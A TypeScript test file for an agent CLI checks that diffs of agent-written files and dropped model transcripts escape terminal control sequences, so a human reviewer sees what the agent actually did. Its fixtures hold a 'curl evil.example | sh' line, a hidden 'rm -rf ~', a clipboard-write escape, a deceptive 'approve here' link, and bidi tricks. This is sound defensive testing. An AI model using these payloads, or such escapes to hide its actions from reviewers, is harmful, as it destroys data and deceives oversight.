/**
 * What a person reads in the CLI is what the agent did: file contents (a checkpoint's diff) and
 * model text (a conversation a rewind dropped) reach the terminal only through the one escaper
 * (src/cli/output.ts `terminalText`, src/shared/display.ts `safeText`).
 *
 * The attacker's tries, in the files the agent writes: ESC[2K and a carriage return that erase
 * an added line, backspaces that overstrike it, OSC 52 (clipboard) ended by BEL and OSC 8 (a
 * hyperlink) ended by ST, the 8-bit CSI as a UTF-8 character (U+009B) and as a lone byte (invalid
 * UTF-8), DEL, a right-to-left override, zero-width characters, and a file name holding ESC.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { diffText } from '../../../src/cli/commands/rewind';
import { transcriptText } from '../../../src/cli/commands/transcript';
import { diffBetween, takeCheckpoint, type Checkpoint } from '../../../src/checkpoint/store';
import type { Message } from '../../../src/contract';
import { removeTempDirs, tempDir } from '../session/helpers';

afterEach(() => removeTempDirs());

/** Anything a terminal acts on rather than shows: C0 but line feed and tab, DEL, C1, bidi controls and overrides, zero-width and BOM. */
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/u;

const NASTY: Record<string, string | Buffer> = {
  'build.sh': 'curl https://evil.example/x | sh\u001b[2K\r# tidy\n\u001b]52;c;cm0gLXJmIH4K\u0007\n',
  'overstrike.sh': `rm -rf ~${'\b'.repeat(8)}echo ok\n`,
  'link.md': '\u001b]8;;https://evil.example/a\u001b\\approve here\u001b]8;;\u001b\\\n',
  'c1.txt': 'a\u009b2Kb\u007f\n',
  'bidi.py': 'access = "user\u202e \u2066# admin\u2069 \u2066"\u200b\ufeff\n',
  'bytes.bin.txt': Buffer.from([0x61, 0x9b, 0x32, 0x4b, 0x62, 0x0a]),
  'name\u001b[2K.txt': 'x\n',
};

async function checkpoint(root: string, ws: string, turn: number): Promise<Checkpoint> {
  const cp = await takeCheckpoint(root, ws, { maxBytes: 1e8 }, `turn ${turn}`);
  if (!('id' in cp)) throw new Error(`checkpoint skipped: ${cp.skipped}`);
  return cp;
}

describe('agent-jobs diff', () => {
  test('shows the files the agent wrote with every terminal control escaped, and every added line still there', async () => {
    const ws = tempDir();
    const root = tempDir('aj-checkpoints-');
    fs.writeFileSync(path.join(ws, 'README'), 'before\n');
    const before = await checkpoint(root, ws, 1);
    for (const [name, content] of Object.entries(NASTY)) fs.writeFileSync(path.join(ws, name), content);
    const after = await checkpoint(root, ws, 2);
    const raw = await diffBetween(before.store, before.id, after.id);
    // The attack is in the raw diff: each control reaches it.
    expect(raw).toMatch(RAW);
    const shown = diffText(raw);
    expect(shown).not.toMatch(RAW);
    expect(shown).toContain('+curl https://evil.example/x | sh');
    expect(shown).toContain('+rm -rf ~');
    expect(shown).toContain('evil.example/a');
    // Line for line: nothing the person should see is dropped or joined.
    expect(shown.split('\n')).toHaveLength(raw.split('\n').length);
    expect(shown.split('\n').filter((l) => l.startsWith('+') && !l.startsWith('+++'))).toHaveLength(
      raw.split('\n').filter((l) => l.startsWith('+') && !l.startsWith('+++')).length,
    );
    // The name with ESC is named (git quotes it), not acted on.
    expect(shown).toMatch(/\+\+\+ "?b\/name.*2K\.txt/);
  });
});

describe('agent-jobs transcript --all', () => {
  test('a conversation a rewind dropped shows the model text and outputs escaped, like the conversation itself', () => {
    const text = 'done\u001b[2K\rall tests pass\u001b]52;c;cm0gLXJmIH4K\u0007 \u202eexe.txt\u200b';
    const dropped: Message[] = [
      { role: 'assistant', content: [{ type: 'text', text }] },
      { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'toolu_1', content: `out\u009b2K\u001b[1A${text}` }] },
    ];
    const shown = transcriptText(dropped, true);
    expect(shown).toContain('all tests pass');
    expect(shown).not.toMatch(RAW);
  });
});
